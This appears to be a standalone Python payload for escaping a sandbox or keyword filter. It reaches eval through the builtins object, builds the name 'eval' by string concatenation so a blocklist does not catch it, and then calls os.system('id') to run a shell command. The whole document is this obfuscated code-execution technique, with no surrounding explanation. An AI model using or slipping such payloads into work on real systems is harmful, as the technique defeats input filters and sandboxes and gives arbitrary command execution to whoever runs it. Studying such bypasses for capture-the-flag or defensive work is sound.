b = __builtins__
e = b["ev" + "al"] if isinstance(b, dict) else getattr(b, "ev" + "al")
e("__import__('os').system('id')")
